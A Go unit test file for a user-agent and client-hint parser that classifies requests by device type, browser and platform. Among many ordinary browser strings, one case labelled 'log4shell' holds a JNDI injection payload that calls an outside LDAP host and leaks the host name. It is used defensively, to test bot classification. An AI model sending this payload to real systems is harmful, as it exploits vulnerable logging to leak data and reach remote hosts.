package device

import (
	"net/http"
	"slices"
	"strings"
	"testing"
)

// The ends that many agents share.
const (
	mozilla    = "Mozilla/5.0 "
	webkit     = " AppleWebKit/537.36 (KHTML, like Gecko) "
	safari     = " Safari/537.36"
	mobile     = " Mobile Safari/537.36"
	appleKit   = " AppleWebKit/605.1.15 (KHTML, like Gecko) "
	iPhone     = mozilla + "(iPhone; CPU iPhone OS 17_5 like Mac OS X)" + appleKit
	windowsNT  = mozilla + "(Windows NT 10.0; Win64; x64)" + webkit
	macintosh  = mozilla + "(Macintosh; Intel Mac OS X 10_15_7)"
	reduced    = mozilla + "(Linux; Android 10; K)" + webkit
	linuxX11   = mozilla + "(X11; Linux x86_64)" + webkit
	chrome     = "Chrome/126.0.0.0"
	chromeHint = `"Chromium";v="126", "Google Chrome";v="126", "Not-A.Brand";v="8"`
)

func androidAgent(model, end string) string {
	return mozilla + "(Linux; Android 13; " + model + ")" + webkit + end
}

func TestParse(t *testing.T) {
	tests := map[string]struct {
		signals Signals
		want    Device
	}{
		"chrome windows":       {Signals{UserAgent: windowsNT + chrome + safari}, Device{Desktop, "chrome", Windows}},
		"chrome mac":           {Signals{UserAgent: macintosh + webkit + chrome + safari}, Device{Desktop, "chrome", MacOS}},
		"chrome linux":         {Signals{UserAgent: linuxX11 + chrome + safari}, Device{Desktop, "chrome", Linux}},
		"chrome chromeos":      {Signals{UserAgent: mozilla + "(X11; CrOS x86_64 14541.0.0)" + webkit + chrome + safari}, Device{Desktop, "chrome", ChromeOS}},
		"edge windows":         {Signals{UserAgent: windowsNT + chrome + safari + " Edg/126.0.0.0"}, Device{Desktop, "edge", Windows}},
		"edge legacy":          {Signals{UserAgent: windowsNT + "Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763"}, Device{Desktop, "edge", Windows}},
		"safari mac":           {Signals{UserAgent: macintosh + appleKit + "Version/17.5 Safari/605.1.15"}, Device{Desktop, "safari", MacOS}},
		"firefox windows":      {Signals{UserAgent: mozilla + "(Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0"}, Device{Desktop, "firefox", Windows}},
		"firefox linux":        {Signals{UserAgent: mozilla + "(X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"}, Device{Desktop, "firefox", Linux}},
		"firefox freebsd":      {Signals{UserAgent: mozilla + "(X11; FreeBSD amd64; rv:127.0) Gecko/20100101 Firefox/127.0"}, Device{Desktop, "firefox", Other}},
		"opera windows":        {Signals{UserAgent: windowsNT + chrome + safari + " OPR/112.0.0.0"}, Device{Desktop, "opera", Windows}},
		"opera presto":         {Signals{UserAgent: "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18"}, Device{Desktop, "opera", Windows}},
		"vivaldi":              {Signals{UserAgent: windowsNT + chrome + safari + " Vivaldi/6.7.3329.41"}, Device{Desktop, "vivaldi", Windows}},
		"yandex windows":       {Signals{UserAgent: windowsNT + "Chrome/124.0.0.0 YaBrowser/24.6.0.0 Safari/537.36"}, Device{Desktop, "yandex", Windows}},
		"ie 8":                 {Signals{UserAgent: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"}, Device{Desktop, "ie", Windows}},
		"ie 11":                {Signals{UserAgent: mozilla + "(Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"}, Device{Desktop, "ie", Windows}},
		"ie 11 tablet pc":      {Signals{UserAgent: mozilla + "(Windows NT 6.3; Win64; Trident/7.0; Touch; Tablet PC 2.0; rv:11.0) like Gecko"}, Device{Tablet, "ie", Windows}},
		"webview mac":          {Signals{UserAgent: macintosh + " AppleWebKit/605.1.15 (KHTML, like Gecko)"}, Device{Desktop, "safari", MacOS}},
		"program with a phone": {Signals{UserAgent: windowsNT + "CitizenPhone/1.0 " + chrome + safari}, Device{Desktop, "chrome", Windows}},
		"electron":             {Signals{UserAgent: windowsNT + "Example/1.0 Chrome/124.0.0.0 Electron/30.0.0 Safari/537.36"}, Device{Desktop, "electron", Windows}},
		"mac app":              {Signals{UserAgent: "Example/42 CFNetwork/1240.0.4 Darwin/20.5.0 (x86_64)"}, Device{Desktop, Other, MacOS}},
		"chrome os as pad":     {Signals{UserAgent: androidAgent("Acer Chromebook 15", chrome+safari)}, Device{Desktop, "chrome", ChromeOS}},

		"chrome android":    {Signals{UserAgent: androidAgent("Pixel 7", chrome+mobile)}, Device{Mobile, "chrome", Android}},
		"chrome reduced":    {Signals{UserAgent: reduced + chrome + mobile}, Device{Mobile, "chrome", Android}},
		"webview":           {Signals{UserAgent: androidAgent("SM-A536B Build/TP1A.220624.014; wv", "Version/4.0 "+chrome+mobile)}, Device{Mobile, "chrome", Android}},
		"stock android":     {Signals{UserAgent: mozilla + "(Linux; U; Android 2.3.6; en-gb; GT-S5830 Build/GINGERBREAD) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1"}, Device{Mobile, "android", Android}},
		"samsung":           {Signals{UserAgent: androidAgent("SAMSUNG SM-S918B", "SamsungBrowser/25.0 Chrome/121.0.0.0"+mobile)}, Device{Mobile, "samsung", Android}},
		"firefox android":   {Signals{UserAgent: mozilla + "(Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0"}, Device{Mobile, "firefox", Android}},
		"edge android":      {Signals{UserAgent: reduced + chrome + mobile + " EdgA/126.0.0.0"}, Device{Mobile, "edge", Android}},
		"opera android":     {Signals{UserAgent: reduced + chrome + mobile + " OPR/82.0.0.0"}, Device{Mobile, "opera", Android}},
		"opera mini":        {Signals{UserAgent: "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; en) Presto/2.8.119 Version/11.10"}, Device{Mobile, "opera", Other}},
		"yandex android":    {Signals{UserAgent: mozilla + "(Linux; arm_64; Android 12; M2101K6G)" + webkit + "Chrome/124.0.0.0 YaBrowser/24.6.0.0.00 SA/3" + mobile}, Device{Mobile, "yandex", Android}},
		"uc":                {Signals{UserAgent: mozilla + "(Linux; U; Android 10; en-US; RMX1911 Build/QKQ1.200209.002)" + webkit + "Version/4.0 Chrome/78.0.3904.108 UCBrowser/13.4.0.1306" + mobile}, Device{Mobile, "ucbrowser", Android}},
		"uc proxy":          {Signals{UserAgent: "UCWEB/2.0 (Java; U; MIDP-2.0; en-US; nokia2690) U2/1.0.0 UCBrowser/9.4.1.377 U2/1.0.0 Mobile"}, Device{Mobile, "ucbrowser", Other}},
		"miui":              {Signals{UserAgent: mozilla + "(Linux; U; Android 12; en-gb; 2201117TY Build/SKQ1)" + webkit + "Version/4.0 Chrome/100.0.4896.127 Mobile Safari/537.36 XiaoMi/MiuiBrowser/13.30.1-gn"}, Device{Mobile, "miui", Android}},
		"huawei":            {Signals{UserAgent: mozilla + "(Linux; Android 10; HarmonyOS; ELS-AN00; HMSCore 6.6.0)" + webkit + "Chrome/88.0.4324.93 HuaweiBrowser/12.1.0" + mobile}, Device{Mobile, "huawei", Android}},
		"duckduckgo":        {Signals{UserAgent: reduced + "Version/4.0 " + chrome + " Mobile DuckDuckGo/5 Safari/537.36"}, Device{Mobile, "duckduckgo", Android}},
		"facebook android":  {Signals{UserAgent: androidAgent("SM-G981V Build/QP1A; wv", "Version/4.0 Chrome/83.0.4103.101 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/274.0.0.46.119;]")}, Device{Mobile, "facebook", Android}},
		"wechat":            {Signals{UserAgent: iPhone + "Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/WIFI Language/en"}, Device{Mobile, "wechat", IOS}},
		"android app":       {Signals{UserAgent: "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 6 Build/TQ3A.230805.001)"}, Device{Mobile, "android", Android}},
		"okhttp in an app":  {Signals{UserAgent: "Example/2.0 (com.example; Android 12; Model SM-G975F) okhttp/4.9.3"}, Device{Mobile, "android", Android}},
		"phone named bot":   {Signals{UserAgent: androidAgent("CUBOT X50", chrome+mobile)}, Device{Mobile, "chrome", Android}},
		"model bot":         {Signals{UserAgent: androidAgent("VR BOT 552", chrome+mobile)}, Device{Mobile, "chrome", Android}},
		"phone no mobile":   {Signals{UserAgent: androidAgent("SM-F936B Build/TP1A; wv", "Version/4.0 "+chrome)}, Device{Mobile, "chrome", Android}},
		"safari iphone":     {Signals{UserAgent: iPhone + "Version/17.5 Mobile/15E148 Safari/604.1"}, Device{Mobile, "safari", IOS}},
		"webview iphone":    {Signals{UserAgent: iPhone + "Mobile/15E148"}, Device{Mobile, "safari", IOS}},
		"crios":             {Signals{UserAgent: iPhone + "CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1"}, Device{Mobile, "chrome", IOS}},
		"fxios":             {Signals{UserAgent: iPhone + "FxiOS/127.0 Mobile/15E148 Safari/605.1.15"}, Device{Mobile, "firefox", IOS}},
		"edgios":            {Signals{UserAgent: iPhone + "Version/17.0 EdgiOS/126.0 Mobile/15E148 Safari/605.1.15"}, Device{Mobile, "edge", IOS}},
		"opt":               {Signals{UserAgent: iPhone + "Version/17.5 Mobile/15E148 Safari/604.1 OPT/4.7.0"}, Device{Mobile, "opera", IOS}},
		"gsa":               {Signals{UserAgent: iPhone + "GSA/320.0 Mobile/15E148 Safari/604.1"}, Device{Mobile, "gsa", IOS}},
		"instagram":         {Signals{UserAgent: iPhone + "Mobile/15E148 Instagram 335.0.8 (iPhone15,2; iOS 17_5; en_US)"}, Device{Mobile, "instagram", IOS}},
		"ipod":              {Signals{UserAgent: mozilla + "(iPod touch; CPU iPhone OS 12_5 like Mac OS X)" + appleKit + "Version/12.1 Mobile/15E148 Safari/604.1"}, Device{Mobile, "safari", IOS}},
		"windows phone":     {Signals{UserAgent: mozilla + "(Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 925) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537"}, Device{Mobile, "ie", Other}},
		"phone as desktop":  {Signals{UserAgent: macintosh + appleKit + "FxiOS/21.0 Version/13.0.3 Safari/605.1.15"}, Device{Mobile, "firefox", MacOS}},
		"kaios":             {Signals{UserAgent: mozilla + "(Mobile; Nokia_2720_Flip; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2"}, Device{Mobile, "firefox", Other}},
		"blackberry":        {Signals{UserAgent: mozilla + "(BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+"}, Device{Mobile, "blackberry", Other}},
		"feature phone":     {Signals{UserAgent: "Nokia2700c-2/2.0 (07.15) Profile/MIDP-2.1 Configuration/CLDC-1.1"}, Device{Mobile, Other, Other}},
		"mobile hint":       {Signals{UserAgent: reduced + chrome + mobile, Brands: chromeHint, Mobile: "?1", Platform: `"Android"`}, Device{Mobile, "chrome", Android}},
		"samsung brand":     {Signals{UserAgent: reduced + "Chrome/121.0.0.0" + mobile, Brands: `"Chromium";v="121", "Samsung Internet";v="25.0"`, Mobile: "?1", Platform: `"Android"`}, Device{Mobile, "samsung", Android}},
		"mobile form":       {Signals{UserAgent: linuxX11 + chrome + safari, Platform: `"Android"`, FormFactors: `"Mobile"`}, Device{Mobile, "chrome", Android}},
		"yandex app iphone": {Signals{UserAgent: iPhone + "Version/17.5 YaBrowser/24.4.8.409.10 SA/3 Mobile/15E148 Safari/604.1"}, Device{Mobile, "yandex", IOS}},

		"ipad":            {Signals{UserAgent: mozilla + "(iPad; CPU OS 12_5_7 like Mac OS X)" + appleKit + "Version/12.1.2 Mobile/15E148 Safari/604.1"}, Device{Tablet, "safari", IOS}},
		"galaxy tab":      {Signals{UserAgent: androidAgent("SM-X906C Build/TP1A; wv", "Version/4.0 "+chrome+mobile)}, Device{Tablet, "chrome", Android}},
		"galaxy tab app":  {Signals{UserAgent: "Dalvik/2.1.0 (Linux; U; Android 11; SM-T290 Build/RP1A.200720.012)"}, Device{Tablet, "android", Android}},
		"lenovo tab":      {Signals{UserAgent: androidAgent("Lenovo TB-X606F", chrome+safari)}, Device{Tablet, "chrome", Android}},
		"mediapad":        {Signals{UserAgent: androidAgent("BAH2-W19", chrome+safari)}, Device{Tablet, "chrome", Android}},
		"xiaomi pad":      {Signals{UserAgent: androidAgent("Redmi Pad SE", chrome+mobile+" XiaoMi/MiuiBrowser/14.9.1-gn")}, Device{Tablet, "miui", Android}},
		"no mobile token": {Signals{UserAgent: androidAgent("XYZ123", chrome+safari)}, Device{Tablet, "chrome", Android}},
		"firefox tablet":  {Signals{UserAgent: mozilla + "(Android 13; Tablet; rv:127.0) Gecko/127.0 Firefox/127.0"}, Device{Tablet, "firefox", Android}},
		"fire hd":         {Signals{UserAgent: mozilla + "(Linux; Android 9; KFMAWI)" + webkit + "Silk/126.3.1 like Chrome/126.0.6478.71 Safari/537.36"}, Device{Tablet, "silk", Android}},
		"kindle":          {Signals{UserAgent: mozilla + "(Linux; U; en-US) AppleWebKit/528.5+ (KHTML, like Gecko, Safari/528.5+) Version/4.0 Kindle/3.0 (screen 600x800; rotate)"}, Device{Tablet, "safari", Linux}},
		"tablet model":    {Signals{UserAgent: reduced + chrome + safari, Brands: chromeHint, Mobile: "?0", Platform: `"Android"`, Model: `"SM-X910"`}, Device{Tablet, "chrome", Android}},
		"desktop site":    {Signals{UserAgent: linuxX11 + chrome + safari, Brands: chromeHint, Mobile: "?0", Platform: `"Android"`}, Device{Tablet, "chrome", Android}},
		"tablet form":     {Signals{UserAgent: reduced + chrome + safari, FormFactors: `"Tablet"`}, Device{Tablet, "chrome", Android}},

		"hbbtv":       {Signals{UserAgent: mozilla + "(Linux armv7l)" + webkit + "Chrome/84.0.4147.140 Safari/537.36 HbbTV/1.5.1 (+DRM; Example; 55X; 1.0; ; )"}, Device{TV, "chrome", Linux}},
		"tizen":       {Signals{UserAgent: mozilla + "(SMART-TV; LINUX; Tizen 6.0)" + webkit + "76.0.3809.146/6.0 TV Safari/537.36"}, Device{TV, "safari", Other}},
		"webos":       {Signals{UserAgent: mozilla + "(Web0S; Linux/SmartTV)" + webkit + "Chrome/87.0.4280.88 Safari/537.36 WebAppManager"}, Device{TV, "chrome", Other}},
		"fire tv":     {Signals{UserAgent: mozilla + "(Linux; Android 9; AFTKA)" + webkit + "Silk/120.5.4 like Chrome/120.0.6099.230 Safari/537.36"}, Device{TV, "silk", Android}},
		"bravia":      {Signals{UserAgent: androidAgent("BRAVIA 4K VH2 Build/RTT0", chrome+safari)}, Device{TV, "chrome", Android}},
		"chromecast":  {Signals{UserAgent: mozilla + "(X11; Linux armv7l)" + webkit + "Chrome/90.0.4430.225 Safari/537.36 CrKey/1.56.500000"}, Device{TV, "chrome", Linux}},
		"apple tv":    {Signals{UserAgent: "AppleCoreMedia/1.0.0.21L227 (Apple TV; U; CPU OS 17_4 like Mac OS X; en_us)"}, Device{TV, Other, MacOS}},
		"roku":        {Signals{UserAgent: "Roku/DVP-12.0 (12.0.0.4182-88)"}, Device{TV, Other, Other}},
		"mi box":      {Signals{UserAgent: "Dalvik/2.1.0 (Linux; U; Android 9; MIBOX4 Build/PI)"}, Device{TV, "android", Android}},
		"tv by size":  {Signals{UserAgent: androidAgent("43U800BU", chrome+mobile)}, Device{TV, "chrome", Android}},
		"tv by panel": {Signals{UserAgent: androidAgent("BQ_42FS07B", chrome+safari)}, Device{TV, "chrome", Android}},
		"tv by name":  {Signals{UserAgent: "Dalvik/2.1.0 (Linux; U; Android 11; ExampleTV Build/RTM6)"}, Device{TV, "android", Android}},
		"letv phone":  {Signals{UserAgent: androidAgent("LeTV X501", chrome+mobile)}, Device{Mobile, "chrome", Android}},
		"tv model":    {Signals{UserAgent: reduced + chrome + safari, Mobile: "?0", Platform: `"Android"`, Model: `"BRAVIA 4K"`}, Device{TV, "chrome", Android}},

		"playstation": {Signals{UserAgent: mozilla + "(PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0 Safari/605.1.15"}, Device{Other, "safari", Other}},
		"xbox":        {Signals{UserAgent: mozilla + "(Windows NT 10.0; Win64; x64; Xbox; Xbox Series X)" + webkit + "Chrome/100.0.0.0 Safari/537.36 Edge/44.18363.8131"}, Device{Other, "edge", Other}},
		"switch":      {Signals{UserAgent: mozilla + "(Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.23.6 NintendoBrowser/5.1.0.23620"}, Device{Other, Other, Other}},
		"watch":       {Signals{UserAgent: androidAgent("SAMSUNG SM-R920", "SamsungBrowser/4.0 Chrome/121.0.0.0"+mobile)}, Device{Other, "samsung", Android}},
		"quest":       {Signals{UserAgent: mozilla + "(X11; Linux x86_64; Quest 3)" + webkit + "OculusBrowser/32.1.0 Chrome/122.0.6261.64 VR Safari/537.36"}, Device{Other, "chrome", Linux}},
		"tesla":       {Signals{UserAgent: mozilla + "(X11; GNU/Linux)" + webkit + "Chromium/79.0.3945.130 Chrome/79.0.3945.130 Safari/537.36 Tesla/2020.16.2.1"}, Device{Other, "chrome", Linux}},
		"watch form":  {Signals{UserAgent: reduced + chrome + mobile, FormFactors: `"Watch", "Mobile"`}, Device{Other, "chrome", Android}},
		"empty":       {Signals{}, Device{Other, Other, Other}},
		"blank":       {Signals{UserAgent: " \t "}, Device{Other, Other, Other}},
		"dash":        {Signals{UserAgent: "-"}, Device{Other, Other, Other}},

		"googlebot":        {Signals{UserAgent: mozilla + "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}, Device{Bot, Other, Other}},
		"googlebot phone":  {Signals{UserAgent: androidAgent("Nexus 5X Build/MMB29P", chrome+mobile+" (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")}, Device{Bot, "chrome", Android}},
		"bingbot":          {Signals{UserAgent: mozilla + "AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"}, Device{Bot, "chrome", Other}},
		"gptbot":           {Signals{UserAgent: mozilla + "AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"}, Device{Bot, Other, Other}},
		"chatgpt user":     {Signals{UserAgent: mozilla + "AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot"}, Device{Bot, Other, Other}},
		"claudebot":        {Signals{UserAgent: mozilla + "AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"}, Device{Bot, Other, Other}},
		"perplexity":       {Signals{UserAgent: mozilla + "AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)"}, Device{Bot, Other, Other}},
		"facebook preview": {Signals{UserAgent: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"}, Device{Bot, "facebook", Other}},
		"slackbot":         {Signals{UserAgent: "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"}, Device{Bot, Other, Other}},
		"headless":         {Signals{UserAgent: linuxX11 + "HeadlessChrome/126.0.0.0 Safari/537.36"}, Device{Bot, "chrome", Linux}},
		"curl":             {Signals{UserAgent: "curl/8.5.0"}, Device{Bot, Other, Other}},
		"wget":             {Signals{UserAgent: "Wget/1.21.4"}, Device{Bot, Other, Other}},
		"go":               {Signals{UserAgent: "Go-http-client/2.0"}, Device{Bot, Other, Other}},
		"python":           {Signals{UserAgent: "python-requests/2.32.3"}, Device{Bot, Other, Other}},
		"java":             {Signals{UserAgent: "Java/17.0.9"}, Device{Bot, Other, Other}},
		"okhttp":           {Signals{UserAgent: "okhttp/4.12.0"}, Device{Bot, Other, Other}},
		"kube probe":       {Signals{UserAgent: "kube-probe/1.30"}, Device{Bot, Other, Other}},
		"uptime monitor":   {Signals{UserAgent: mozilla + "(compatible; ExampleMonitor/2.0)"}, Device{Bot, Other, Other}},
		"log4shell":        {Signals{UserAgent: "${jndi:ldap://${hostName}.example.test}"}, Device{Bot, Other, Other}},

		"brave":          {Signals{UserAgent: windowsNT + chrome + safari, Brands: `"Not/A)Brand";v="8", "Chromium";v="126", "Brave";v="126"`, Mobile: "?0", Platform: `"Windows"`}, Device{Desktop, "brave", Windows}},
		"opera brand":    {Signals{UserAgent: windowsNT + chrome + safari, Brands: `"Opera GX";v="111", "Chromium";v="125", "Not.A/Brand";v="24"`}, Device{Desktop, "opera", Windows}},
		"edge brand":     {Signals{UserAgent: windowsNT + chrome + safari, Brands: `"Microsoft Edge";v="126", "Chromium";v="126"`}, Device{Desktop, "edge", Windows}},
		"chromium brand": {Signals{UserAgent: linuxX11 + chrome + safari, Brands: `"Chromium";v="126", "Not-A.Brand";v="24"`}, Device{Desktop, "chrome", Linux}},
		"chromeos hint":  {Signals{UserAgent: linuxX11 + chrome + safari, Brands: chromeHint, Mobile: "?0", Platform: `"Chrome OS"`}, Device{Desktop, "chrome", ChromeOS}},
		"unknown hint":   {Signals{UserAgent: macintosh + webkit + chrome + safari, Platform: `"Unknown"`, Mobile: "yes", FormFactors: `"Toaster"`}, Device{Desktop, "chrome", MacOS}},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			if got := Parse(test.signals); got != test.want {
				t.Errorf("Parse(%+v)\n got %+v\nwant %+v", test.signals, got, test.want)
			}
		})
	}
}

// checkVocabulary fails t when d holds a word that labels and logs do not expect.
func checkVocabulary(t *testing.T, d Device) {
	t.Helper()
	if !slices.Contains([]string{Mobile, Desktop, Tablet, TV, Bot, Other}, d.Type) {
		t.Errorf("type %q", d.Type)
	}
	if !slices.Contains([]string{Windows, MacOS, IOS, Android, Linux, ChromeOS, Other}, d.Platform) {
		t.Errorf("platform %q", d.Platform)
	}
	if !browserNames[d.Browser] {
		t.Errorf("browser %q", d.Browser)
	}
}

func TestBrowsersAreShortWords(t *testing.T) {
	for _, name := range Browsers() {
		if len(name) == 0 || len(name) > 32 || strings.Trim(name, "abcdefghijklmnopqrstuvwxyz0123456789 ._-") != "" {
			t.Errorf("browser name %q", name)
		}
	}
}

// Tables are searched in lower-case text, and an empty token would match all of it.
func TestTokensAreLowerCase(t *testing.T) {
	tables := map[string][]string{
		"bot": botTokens, "bot words": botWords, "libraries": libraries, "contact": contactTokens, "contact apps": contactApps, "compatible": compatibleBrowsers,
		"appliance": applianceTokens, "appliance words": applianceWords, "appliance models": applianceModels,
		"tv": tvTokens, "tv words": tvWords, "tv models": tvModels, "tv model tokens": tvModelTokens,
		"tablet": tabletTokens, "tablet models": tabletModels, "tablet model tokens": tabletModelTokens, "phone models": phoneModels,
		"phone": phoneTokens, "phone prefixes": phonePrefixes, "desktop": desktopTokens, "laptop": laptopModels, "mac": macTokens,
	}
	for _, p := range products {
		tables["products"] = append(tables["products"], p.token)
	}
	for _, p := range brandProducts {
		tables["brands"] = append(tables["brands"], p.token)
	}
	for _, p := range platformTokens {
		tables["platforms"] = append(tables["platforms"], p.token)
	}
	for name, table := range tables {
		seen := map[string]bool{}
		for _, token := range table {
			if token == "" || token != lower(token) {
				t.Errorf("%s: token %q", name, token)
			}
			if seen[token] {
				t.Errorf("%s: token %q is there twice", name, token)
			}
			seen[token] = true
		}
	}
}

func TestDetectReadsFirstCanonicalValues(t *testing.T) {
	h := http.Header{}
	h.Add("User-Agent", reduced+chrome+safari)
	h.Add("User-Agent", "curl/8.5.0")
	h.Set("Sec-CH-UA", `"Chromium";v="126", "Opera";v="112"`)
	h.Set("Sec-CH-UA-Mobile", "?0")
	h.Set("Sec-CH-UA-Platform", `"Android"`)
	h.Set("Sec-CH-UA-Model", `"BRAVIA 4K"`)
	want := Device{TV, "opera", Android}
	d := NewDetector()
	for range 2 {
		if got := d.Detect(h); got != want {
			t.Errorf("Detect = %+v, want %+v", got, want)
		}
	}
	h.Set("Sec-CH-UA-Model", "")
	h.Set("Sec-CH-UA-Form-Factors", `"Automotive"`)
	if got := d.Detect(h); got.Type != Other {
		t.Errorf("Detect = %+v, want type %q", got, Other)
	}
	if got, want := d.Detect(http.Header{}), (Device{Other, Other, Other}); got != want {
		t.Errorf("Detect without headers = %+v, want %+v", got, want)
	}
}
